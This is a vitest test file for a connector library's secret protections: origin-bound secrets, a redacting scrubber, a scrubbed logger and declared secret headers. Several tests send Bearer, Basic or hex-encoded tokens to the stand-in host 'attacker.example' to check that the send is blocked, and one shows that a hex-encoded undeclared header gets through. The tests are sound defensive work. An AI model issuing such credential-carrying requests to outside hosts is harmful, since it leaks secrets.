import { describe, expect, it, vi } from 'vitest';
import type { SecretCarrier, SecretResolver } from '../../lib/connectors/contract.js';
import { getConnector } from '../../lib/connectors/registry.js';
import { originBoundSecrets } from '../../lib/connectors/secret-origins.js';
import { createSecretScrubber, REDACTED_SECRET, wireSecret } from '../../lib/connectors/secret-scrub.js';
import { NumberValue } from '../../lib/json/lossless.js';
import { createLogger } from '../../lib/observability/logger.js';
import { scrubbedLogger } from '../../lib/observability/scrubbed-logger.js';
import { ClassifiedError } from '../../lib/retry/errors.js';

const REF = 'ssm:/harvester/acme/token';
const BOUND = 'https://api.acme.example';

function bound(stored: string, carriers: readonly SecretCarrier[] = []) {
  const sent: string[] = [];
  const resolver: SecretResolver = async () => stored;
  const fetchFn = (async (input: Parameters<typeof fetch>[0]) => {
    sent.push(String(input));
    return new Response('{}');
  }) as typeof fetch;
  const secrets = originBoundSecrets(
    resolver,
    fetchFn,
    { originsFor: async () => [BOUND] },
    { allowLoopback: false, carriers },
  );
  return { ...secrets, sent };
}

describe('wireSecret', () => {
  it.each([
    ['token\n', 'token'],
    ['\ttoken\r\n', 'token'],
    [' token ', 'token'],
    ['token\u0000', 'token'],
    ['to ken', 'to ken'],
  ])('uses %j as %j', (stored, used) => {
    expect(wireSecret(REF, stored)).toBe(used);
  });

  it.each([
    ['to\r\nken', 'control character'],
    [' \n\t', 'empty'],
  ])('refuses %j, naming the reference and not the value', (stored, why) => {
    expect(() => wireSecret(REF, stored)).toThrow(ClassifiedError);
    expect(() => wireSecret(REF, stored)).toThrow(new RegExp(`secret ${REF} .*${why}`));
  });
});

describe('the scrubber', () => {
  it('replaces a value in every spelling, in strings and keys, and keeps what holds none', () => {
    const scrubber = createSecretScrubber();
    const value = 'a b/c+d=é';
    scrubber.note(value);
    const kept = { plain: 'nothing here', n: new NumberValue('18446744073709551617') };
    const record = {
      raw: `x ${value} y`,
      component: encodeURIComponent(value),
      form: new URLSearchParams({ q: value }).toString(),
      base64: Buffer.from(value).toString('base64'),
      [value]: 1,
      kept,
    };

    const out = scrubber.scrub(record);

    expect(JSON.stringify(out)).not.toContain('b/c');
    expect(out.raw).toBe(`x ${REDACTED_SECRET} y`);
    expect(out.form).toBe(`q=${REDACTED_SECRET}`);
    expect(out.base64).toBe(REDACTED_SECRET);
    expect(Object.keys(out)).toContain(REDACTED_SECRET);
    expect(out.kept).toBe(kept); // rebuilt only where something changed
    expect(out.kept.n).toBeInstanceOf(NumberValue);
  });

  it('is the identity before any value is noted', () => {
    const record = { a: 'x' };
    expect(createSecretScrubber().scrub(record)).toBe(record);
  });
});

describe('the origin check compares what goes on the wire', () => {
  it('a value stored with a trailing newline is sent trimmed, and checked: never to an unbound origin', async () => {
    const { secrets, fetch, sent } = bound('tok-ws-4242\n');
    const value = await secrets(REF);

    await fetch(`${BOUND}/items`, { headers: { authorization: `Bearer ${value}` } });
    const elsewhere = fetch('https://attacker.example/items', {
      headers: { authorization: `Bearer ${value}` },
    });

    expect(value).toBe('tok-ws-4242');
    await expect(elsewhere).rejects.toThrow(`secret ${REF} may not be sent to https://attacker.example`);
    expect(sent).toEqual([`${BOUND}/items`]);
  });

  it.each([
    ['a Basic credential', (v: string) => ({ authorization: `Basic ${btoa(`user:${v}`)}` }), ''],
    ['a form-encoded query value', () => ({}), `?${new URLSearchParams({ q: 'p w+d' })}`],
  ])('%s is refused for an unbound origin', async (_name, headers, query) => {
    const { secrets, fetch, sent } = bound('p w+d');
    const value = await secrets(REF);

    await expect(
      fetch(`https://attacker.example/items${query}`, { headers: headers(value) }),
    ).rejects.toThrow('may not be sent to https://attacker.example');
    expect(sent).toEqual([]);
  });

  it('a header the connector declares as the carrier is held to the binding whatever its value looks like', async () => {
    const declared = bound('tok-hex-99', [{ reference: REF, header: 'X-Api-Key' }]);
    const undeclared = bound('tok-hex-99');
    const hex = (v: string) => ({ headers: { 'x-api-key': Buffer.from(v).toString('hex') } });

    const refused = declared.fetch('https://attacker.example/items', hex(await declared.secrets(REF)));
    await undeclared.fetch('https://attacker.example/items', hex(await undeclared.secrets(REF)));

    await expect(refused).rejects.toThrow(`secret ${REF} may not be sent to https://attacker.example`);
    expect(declared.sent).toEqual([]);
    expect(undeclared.sent).toEqual(['https://attacker.example/items']); // no search finds hex
  });

  it('a Basic credential sent to the bound origin is scrubbed as sent', async () => {
    const { secrets, fetch, scrub } = bound('s3cr3t-value');
    const value = await secrets(REF);
    const header = `Basic ${btoa(`user:${value}`)}`;

    await fetch(`${BOUND}/items`, { headers: { authorization: header } });

    expect(scrub({ echoed: header })).toEqual({ echoed: `Basic ${REDACTED_SECRET}` });
  });
});

describe('the scrubbed logger', () => {
  it('scrubs the message, the attributes and an error of every line, children included', () => {
    const scrubber = createSecretScrubber();
    scrubber.note('tok-log-1234');
    const lines: string[] = [];
    const out = vi
      .spyOn(process.stdout, 'write')
      .mockImplementation((chunk) => lines.push(String(chunk)) > 0);
    const err = vi
      .spyOn(process.stderr, 'write')
      .mockImplementation((chunk) => lines.push(String(chunk)) > 0);
    try {
      const log = scrubbedLogger(createLogger('DEBUG'), scrubber.scrub);
      log.info('sent tok-log-1234', { reason: 'HTTP 400: tok-log-1234' });
      log.createChild({ persistentKeys: { page: 2 } }).error('failed', new Error('x tok-log-1234'));
    } finally {
      out.mockRestore();
      err.mockRestore();
    }

    expect(lines).toHaveLength(2);
    expect(lines.join('')).not.toContain('tok-log-1234');
    expect(lines.join('')).toContain(`x ${REDACTED_SECRET}`);
  });
});

describe('every connector declares the header its secret travels in', () => {
  const SECRET = 'tok-declared-1234';
  it.each([
    ['github-issues', { owner: 'o', repo: 'r', tokenRef: REF }],
    ['gitlab-issues', { project: 42, tokenRef: REF }],
    ['gitlab-issues', { project: 42, tokenRef: REF, authHeader: 'bearer' }],
    [
      'rest-json',
      {
        url: 'https://api.acme.example/items',
        itemsPath: 'data',
        idField: 'id',
        updatedAtField: 'updatedAt',
        pagination: { type: 'cursor', cursorParam: 'cursor', nextCursorPath: 'next_cursor' },
        auth: { header: 'X-Api-Key', prefix: '', secretRef: REF },
      },
    ],
  ])('%s %j', async (name, raw) => {
    const connector = getConnector(name);
    const config = connector.configSchema.parse(raw);
    const carrying: string[] = [];
    const fetchFn = (async (_input: Parameters<typeof fetch>[0], init?: RequestInit) => {
      new Headers(init?.headers).forEach((value, header) => {
        if (value.includes(SECRET)) carrying.push(header);
      });
      return new Response('[]', { headers: { 'content-type': 'application/json' } });
    }) as typeof fetch;

    await connector
      .fetchPage(config, null, { fetch: fetchFn, secrets: async () => SECRET, since: null })
      .catch(() => undefined);
    const declared = (connector.secretCarriers?.(config) ?? []).map((c) => c.header.toLowerCase());

    expect(carrying.length).toBeGreaterThan(0);
    expect(carrying.filter((header) => !declared.includes(header))).toEqual([]);
    expect(connector.secretCarriers?.(config).every((c) => c.reference === REF)).toBe(true);
  });
});
